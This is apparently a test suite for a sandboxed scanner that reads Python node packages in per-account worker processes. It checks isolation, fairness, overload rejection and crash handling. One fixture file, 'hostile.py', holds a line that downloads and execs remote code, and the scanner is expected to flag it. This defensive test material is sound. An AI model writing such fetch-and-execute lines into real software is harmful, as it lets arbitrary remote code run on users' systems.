import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type TestContext, suite, test } from 'node:test';
import { BusyError } from '../../src/limits/semaphore.ts';
import { ReaderPool } from '../../src/packages/reader-pool.ts';
import { type ReadingRequest, TooHeavyError } from '../../src/packages/reading.ts';
import { readerEntry } from '../../src/packages/sandbox.ts';
import { zip } from '../support/build.ts';
import { killReaders } from '../support/kill-reader.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { until } from '../support/until.ts';
import { bundleEntry } from './bundle-entry.ts';
import { plenty, requestOf } from './support.ts';

const open = async (
  t: TestContext,
  module?: string,
  options: ConstructorParameters<typeof ReaderPool>[0] = {},
) => {
  const entry = module === undefined ? readerEntry : await bundleEntry(t, module);
  const readers = new ReaderPool({ ...options, entry });
  t.after(() => readers.close());
  const path = join(await temporaryFolder(t), 'package.zip');
  const bytes = await zip({ '__init__.py': '' });
  await writeFile(path, bytes);
  const read = (account: string, nodeId = 'node', others: Partial<ReadingRequest> = {}) =>
    readers.read(requestOf(path, bytes, { account, nodeId, ...others }));
  /** Which reading of its process this one was; of `counts-readings.ts`. */
  const count = async (...request: Parameters<typeof read>): Promise<number | undefined> => {
    const reading = await read(...request);
    return reading?.fault === undefined ? reading?.problems[0]?.line : undefined;
  };
  return { readers, path, bytes, read, count };
};

suite('readers', () => {
  test('more packages than processes are all read, each with its own answer', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const folder = await temporaryFolder(t);
    const names = await Promise.all(
      Array.from({ length: readers.processesMax * 4 }, async (_, index) => {
        const path = join(folder, `${index}.zip`);
        const source = `class Node:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Node ${index}": Node}\n`;
        const bytes = await zip({ '__init__.py': source, 'README.md': `*Node ${index}*` });
        await writeFile(path, bytes);
        const reading = await readers.read(requestOf(path, bytes, { account: `account-${index % 3}` }));
        assert.ok(reading !== undefined && reading.fault === undefined);
        const names = reading.appNodes.map(({ app_node_name }) => app_node_name);
        return [...names, ...(reading.readme?.parts ?? []).map(({ tag, text }) => tag ?? text)];
      }),
    );
    assert.deepEqual(
      names,
      names.map((_, index) => [`Node ${index}`, 'p', 'em', `Node ${index}`]),
    );
  });

  test('a process reads many packages of one account, and none of another', async (t) => {
    const { readers, count } = await open(t, 'counts-readings.ts');
    assert.deepEqual([await count('ada'), await count('ada'), await count('ada')], [1, 2, 3]);
    assert.equal(await count('bob'), 1);
    assert.deepEqual([await count('ada'), await count('bob')], [4, 2]);
    const crowd = Array.from({ length: readers.processesMax }, (_, index) => `account-${index}`);
    for (const account of crowd) assert.equal(await count(account), 1);
    assert.equal(readers.load.processes, readers.processesMax, 'idle processes of others are ended');
    assert.equal(await count('ada'), 1);
  });

  test('a package read at the low priority has a process of its own, and leaves one to others', async (t) => {
    const { readers, read, count } = await open(t, 'never-reads.ts');
    const low = { budget: { ...plenty, isLow: true } };
    const heavy = Array.from({ length: readers.processesMax * 2 }, () =>
      read('mallory', 'never', low).catch(() => 'never read'),
    );
    assert.equal(await count('ada'), undefined);
    readers.close();
    await Promise.all(heavy);
  });

  test('a process ends after an error, after its number of packages, and when it is idle', async (t) => {
    const { readers, count } = await open(t, 'counts-readings.ts', { packagesOfProcess: 2, idleMs: 500 });
    assert.deepEqual([await count('ada'), await count('ada'), await count('ada')], [1, 2, 1]);
    await assert.rejects(count('ada', 'error'), /it failed/);
    assert.equal(await count('ada'), 1);
    await until(() => readers.load.processes === 0);
  });

  test('what a package leaves behind in its process reaches none of another account', async (t) => {
    const { count } = await open(t, 'leaves-behind.ts');
    assert.equal(await count('mallory', 'poison'), 1);
    assert.equal(await count('mallory'), 666, 'its own account may read what it left');
    assert.equal(await count('ada'), 1);
  });

  test('one account that sends without a pause does not keep the packages of another waiting', async (t) => {
    const { readers, read } = await open(t, 'counts-readings.ts');
    const ended: string[] = [];
    const end = (account: string) => read(account).then(() => ended.push(account));
    const crowd = Array.from({ length: readers.processesMax * 40 }, () => end('mallory'));
    await Promise.all([...crowd, end('ada')]);
    assert.equal(ended.length, crowd.length + 1);
  });

  test('beyond a number of waiting packages, others are rejected at once', async (t) => {
    const { readers, read } = await open(t, 'never-reads.ts');
    const all = Array.from({ length: 200 }, () => read('mallory', 'never').catch((error: unknown) => error));
    await assert.rejects(read('ada'), BusyError);
    assert.ok(readers.load.waiting >= 100, 'hundreds wait');
    readers.close();
    const outcomes = await Promise.all(all);
    assert.ok(outcomes.some((error) => error instanceof BusyError));
  });

  test('a package of large files is read to its end', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const large = Array.from({ length: 40_000 }, (_, index) => `LARGE_${index} = ${index ** 3}\n`).join('');
    const hostile = `${large}import requests\nexec(requests.get("https://example.org").text)\n`;
    const bytes = await zip({ 'large.py': large, 'hostile.py': hostile, 'data.bin': large.repeat(4) });
    await writeFile(path, bytes);
    const reading = await readers.read(requestOf(path, bytes));
    assert.ok(reading !== undefined && reading.fault === undefined);
    assert.equal(reading.verdict.outcome, 'found');
    assert.deepEqual(
      reading.verdict.findings
        .filter(({ severity }) => severity === 'error')
        .map(({ file, line }) => [file, line]),
      [['hostile.py', 40_002]],
    );
  });

  test(
    'a package is not to blame for the first process that is killed while it is read',
    { skip: process.platform !== 'linux' },
    async (t) => {
      const { read } = await open(t);
      const reading = read('ada');
      await until(() => killReaders(process.pid));
      assert.equal((await reading)?.fault, undefined);
    },
  );

  test('a package that ends each process that reads it is too heavy', async (t) => {
    const { readers, read } = await open(t, 'killed.ts');
    await assert.rejects(read('ada'), TooHeavyError);
    assert.equal(readers.load.killed, 2);
  });

  test('a reading that fails fails alone, with the code of its error', async (t) => {
    const readers = new ReaderPool();
    t.after(() => readers.close());
    const path = join(await temporaryFolder(t), 'package.zip');
    const bytes = await zip({ '__init__.py': '' });
    await assert.rejects(readers.read(requestOf(path, bytes)), { code: 'ENOENT', message: /no such file/ });
    await writeFile(path, bytes);
    assert.ok(await readers.read(requestOf(path, bytes)));
    assert.equal(await readers.read(requestOf(path, 'another package')), undefined);
    assert.ok(await readers.read(requestOf(path, bytes)));
  });
});
